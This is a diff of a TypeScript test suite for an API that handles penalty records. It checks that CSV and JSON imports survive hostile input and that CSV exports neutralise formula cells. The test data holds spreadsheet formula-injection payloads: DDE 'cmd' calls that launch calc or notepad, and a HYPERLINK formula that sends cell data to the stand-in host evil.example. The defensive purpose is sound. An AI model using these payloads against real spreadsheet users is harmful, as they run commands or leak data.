@@ -22,16 +22,44 @@ const uscc = (): string => {
   for (let i = 0; i < 9; i++) body += CODE_CHARS[Math.floor(Math.random() * CODE_CHARS.length)];
   return body + usccCheckChar(body);
 };
-const FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+SUM(1,1)', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(A1:A9)'];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
+  '+SUM(1,1)',
+  "-2+3+cmd|' /C notepad'!A0",
+  '@SUM(A1:A9)',
+];
 const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 describe('hostile CSV imports and safe CSV exports', () => {
   let t: TestApp;
   const codes = FORMULAS.map(() => uscc());
-  const HEADER = 'type,source,decisionNumber,subjectName,subjectCode,industry,sector,severity,penaltyTypes,fineAmount,decisionDate,violationType,legalBasis';
-  const row = (o: { source?: string; number: string; name: string; code: string; violation?: string; basis?: string }) =>
-    ['penalty', q(o.source ?? '綦江区市场监督管理局'), q(o.number), q(o.name), o.code, 'food_drug', 'food', 'general', 'fine', '1', '2026-10-01', q(o.violation ?? '违法行为'), q(o.basis ?? '《食品安全法》第一百二十四条')].join(',');
+  const HEADER =
+    'type,source,decisionNumber,subjectName,subjectCode,industry,sector,severity,penaltyTypes,fineAmount,decisionDate,violationType,legalBasis';
+  const row = (o: {
+    source?: string;
+    number: string;
+    name: string;
+    code: string;
+    violation?: string;
+    basis?: string;
+  }) =>
+    [
+      'penalty',
+      q(o.source ?? '綦江区市场监督管理局'),
+      q(o.number),
+      q(o.name),
+      o.code,
+      'food_drug',
+      'food',
+      'general',
+      'fine',
+      '1',
+      '2026-10-01',
+      q(o.violation ?? '违法行为'),
+      q(o.basis ?? '《食品安全法》第一百二十四条'),
+    ].join(',');
   const run = randomUUID().slice(0, 8);
 
   beforeAll(async () => {
@@ -45,16 +73,28 @@ describe('hostile CSV imports and safe CSV exports', () => {
   const importCsv = async (csv: string | Buffer, operator?: string) => {
     const res = await fetch(`${t.url}/api/v1/records/import`, {
       method: 'POST',
-      headers: { authorization: `Bearer ${t.adminKey}`, 'content-type': 'text/csv; charset=utf-8', ...(operator ? { 'x-operator': operator } : {}) },
+      headers: {
+        authorization: `Bearer ${t.adminKey}`,
+        'content-type': 'text/csv; charset=utf-8',
+        ...(operator ? { 'x-operator': operator } : {}),
+      },
       body: csv,
     });
     const text = await res.text();
-    expect(answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text })).toEqual([]);
+    expect(answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text })).toEqual(
+      [],
+    );
     return { status: res.status, body: JSON.parse(text) as any };
   };
 
   it('stores formula-looking, quoted and multi-line cells verbatim, or refuses the row; never a 5xx', async () => {
-    const rows = FORMULAS.map((f, i) => ({ number: `${f}-${run}-${i}`, name: `${f}公司${i}`, code: codes[i], violation: f, basis: `${f}\n第二行 "引号" ,逗号` }));
+    const rows = FORMULAS.map((f, i) => ({
+      number: `${f}-${run}-${i}`,
+      name: `${f}公司${i}`,
+      code: codes[i],
+      violation: f,
+      basis: `${f}\n第二行 "引号" ,逗号`,
+    }));
     const csv = '\uFEFF' + [HEADER, ...rows.map(row)].join('\r\n') + '\r\n';
     const res = await importCsv(csv, FORMULAS[0]);
     expect(res.status).toBe(200);
@@ -76,10 +116,19 @@ describe('hostile CSV imports and safe CSV exports', () => {
   });
 
   it('NUL bytes, a huge cell, a huge file, malformed quoting, an unknown column, a bare BOM: refused with a problem or a refused row, never a 5xx', async () => {
-    const nul = await importCsv([HEADER, row({ number: `NUL\u0000${run}`, name: `名\u0000称`, code: uscc() })].join('\n'));
+    const nul = await importCsv(
+      [HEADER, row({ number: `NUL\u0000${run}`, name: `名\u0000称`, code: uscc() })].join('\n'),
+    );
     expect(nul.status === 400 || nul.body.rows.every((r: { status: string }) => r.status === 'refused')).toBe(true);
-    const huge = await importCsv([HEADER, row({ number: `HUGE-${run}`, name: '大单元格公司', code: uscc(), violation: 'A'.repeat(1_000_000) })].join('\n'));
-    expect(huge.status === 400 || huge.body.rows[0].status === 'refused' || huge.body.rows[0].status === 'stored').toBe(true);
+    const huge = await importCsv(
+      [
+        HEADER,
+        row({ number: `HUGE-${run}`, name: '大单元格公司', code: uscc(), violation: 'A'.repeat(1_000_000) }),
+      ].join('\n'),
+    );
+    expect(huge.status === 400 || huge.body.rows[0].status === 'refused' || huge.body.rows[0].status === 'stored').toBe(
+      true,
+    );
     for (const bad of [
       `${HEADER}\npenalty,"unclosed,D-1`,
       `${HEADER}\n${row({ number: 'x', name: 'y', code: uscc() })},extra,cells`,
@@ -90,39 +139,74 @@ describe('hostile CSV imports and safe CSV exports', () => {
       `${HEADER}\n` + `${row({ number: 'many', name: 'z', code: uscc() })}\n`.repeat(5001),
     ]) {
       const res = await importCsv(bad);
-      expect(res.status === 400 || res.status === 413 || res.body.rows.every((r: { status: string }) => r.status === 'refused')).toBe(true);
+      expect(
+        res.status === 400 ||
+          res.status === 413 ||
+          res.body.rows.every((r: { status: string }) => r.status === 'refused'),
+      ).toBe(true);
     }
   });
 
   it('JSON imports with hostile text in every free-text field: each row stored verbatim or refused, never a 5xx (property)', async () => {
-    const text = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS, ...FORMULAS), residentIdArb, fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }));
+    const text = fc.oneof(
+      fc.constantFrom(...HOSTILE_STRINGS, ...FORMULAS),
+      residentIdArb,
+      fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }),
+    );
     let n = 0;
     await fc.assert(
-      fc.asyncProperty(fc.record({ name: text, number: text, violation: text, basis: text, source: text }), async (h) => {
-        n++;
-        const record = {
-          type: 'penalty', source: h.source, decisionNumber: `${h.number}-${run}-${n}`, subjectName: h.name, subjectCode: uscc(), industry: 'food_drug',
-          sector: 'food', severity: 'general', penaltyTypes: ['fine'], fineAmount: 1, decisionDate: '2026-10-01', violationType: h.violation, legalBasis: h.basis,
-        };
-        const res = await fetch(`${t.url}/api/v1/records/import`, { method: 'POST', headers: { authorization: `Bearer ${t.adminKey}`, 'content-type': 'application/json' }, body: JSON.stringify({ records: [record] }) });
-        const body = await res.text();
-        expect(answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text: body })).toEqual([]);
-        expect(res.status).toBe(200);
-        const row = JSON.parse(body).rows[0] as { status: string; recordId?: string; id?: string };
-        if (row.status !== 'stored') return expect(row.status).toBe('refused');
-        const got = await http(t.url, 'GET', `/api/v1/records/${row.recordId ?? row.id}`);
-        const stored = JSON.stringify(got.body);
-        expect(answerProblems({ status: got.status, contentType: 'application/json', text: stored })).toEqual([]);
-        // Verbatim once trimmed (text fields are trimmed on the way in); free text holding an ID number is
-        // stored masked instead (110105********002X), which the check just above requires.
-        for (const v of [record.decisionNumber, h.violation, h.basis, h.source]) expect(stored).toContain(JSON.stringify(scrubIdNumbers(v.trim())));
-      }),
-      { seed: Number(process.env.HOSTILE_SEED ?? 20261129), numRuns: process.env.TEST_EMBEDDED === '1' ? 15 : 40, endOnFailure: true },
+      fc.asyncProperty(
+        fc.record({ name: text, number: text, violation: text, basis: text, source: text }),
+        async (h) => {
+          n++;
+          const record = {
+            type: 'penalty',
+            source: h.source,
+            decisionNumber: `${h.number}-${run}-${n}`,
+            subjectName: h.name,
+            subjectCode: uscc(),
+            industry: 'food_drug',
+            sector: 'food',
+            severity: 'general',
+            penaltyTypes: ['fine'],
+            fineAmount: 1,
+            decisionDate: '2026-10-01',
+            violationType: h.violation,
+            legalBasis: h.basis,
+          };
+          const res = await fetch(`${t.url}/api/v1/records/import`, {
+            method: 'POST',
+            headers: { authorization: `Bearer ${t.adminKey}`, 'content-type': 'application/json' },
+            body: JSON.stringify({ records: [record] }),
+          });
+          const body = await res.text();
+          expect(
+            answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text: body }),
+          ).toEqual([]);
+          expect(res.status).toBe(200);
+          const row = JSON.parse(body).rows[0] as { status: string; recordId?: string; id?: string };
+          if (row.status !== 'stored') return expect(row.status).toBe('refused');
+          const got = await http(t.url, 'GET', `/api/v1/records/${row.recordId ?? row.id}`);
+          const stored = JSON.stringify(got.body);
+          expect(answerProblems({ status: got.status, contentType: 'application/json', text: stored })).toEqual([]);
+          // Verbatim once trimmed (text fields are trimmed on the way in); free text holding an ID number is
+          // stored masked instead (110105********002X), which the check just above requires.
+          for (const v of [record.decisionNumber, h.violation, h.basis, h.source])
+            expect(stored).toContain(JSON.stringify(scrubIdNumbers(v.trim())));
+        },
+      ),
+      {
+        seed: Number(process.env.HOSTILE_SEED ?? 20261129),
+        numRuns: process.env.TEST_EMBEDDED === '1' ? 15 : 40,
+        endOnFailure: true,
+      },
     );
   });
 
   it('the audit export (CSV) neutralises every cell a spreadsheet would run as a formula, the stored operator included', async () => {
-    const res = await fetch(`${t.url}/api/v1/audit/export?format=csv`, { headers: { authorization: `Bearer ${t.adminKey}` } });
+    const res = await fetch(`${t.url}/api/v1/audit/export?format=csv`, {
+      headers: { authorization: `Bearer ${t.adminKey}` },
+    });
     expect(res.status).toBe(200);
     const cells = (parse(await res.text(), { bom: true, relax_column_count: true }) as string[][]).flat();
     expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
@@ -145,7 +229,9 @@ describe('hostile CSV imports and safe CSV exports', () => {
       seed: FORMULAS[1],
     });
     expect(plan.status).toBe(201);
-    const res = await fetch(`${t.url}/api/v1/inspection-plans/${plan.body.id}/export?format=csv`, { headers: { authorization: `Bearer ${t.adminKey}` } });
+    const res = await fetch(`${t.url}/api/v1/inspection-plans/${plan.body.id}/export?format=csv`, {
+      headers: { authorization: `Bearer ${t.adminKey}` },
+    });
     expect(res.status).toBe(200);
     const cells = (parse(await res.text(), { bom: true, relax_column_count: true }) as string[][]).flat();
     expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
